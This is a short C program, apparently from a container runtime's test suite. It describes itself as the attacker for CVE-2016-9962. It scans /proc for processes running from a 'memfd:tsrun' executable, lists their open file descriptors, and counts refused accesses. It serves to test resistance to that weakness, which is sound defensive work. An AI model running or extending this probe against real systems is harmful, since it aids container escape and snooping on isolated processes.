// The attacker of CVE-2016-9962: looks into every other process, as fast as it can and until its
// input ends. It prints what it could read of one that is still the runtime's, and at the end how
// often it was refused.
#define _GNU_SOURCE
#include <errno.h>

#include "processes.h"

static long refused;

static void look(const char* pid) {
  char path[640], link[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const ssize_t size = readlink(path, link, sizeof link - 1);
  if (size < 0) {
    if (errno == EACCES || errno == EPERM) refused++;
    return;
  }
  link[size] = 0;
  if (strstr(link, "memfd:tsrun") == NULL) return;
  printf("looked into %s\n", link);
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (fds == NULL) return;
  for (struct dirent* entry; (entry = readdir(fds)) != NULL;) {
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    const ssize_t length = readlink(path, link, sizeof link - 1);
    if (length < 0) continue;
    link[length] = 0;
    printf("descriptor %s: %s\n", entry->d_name, link);
  }
  closedir(fds);
}

int main(void) {
  if (write(1, "on\n", 3) != 3) return 1;
  while (goesOn()) {
    if (eachOther(look) < 0) return 1;
  }
  printf("refused %ld\n", refused);
  return 0;
}
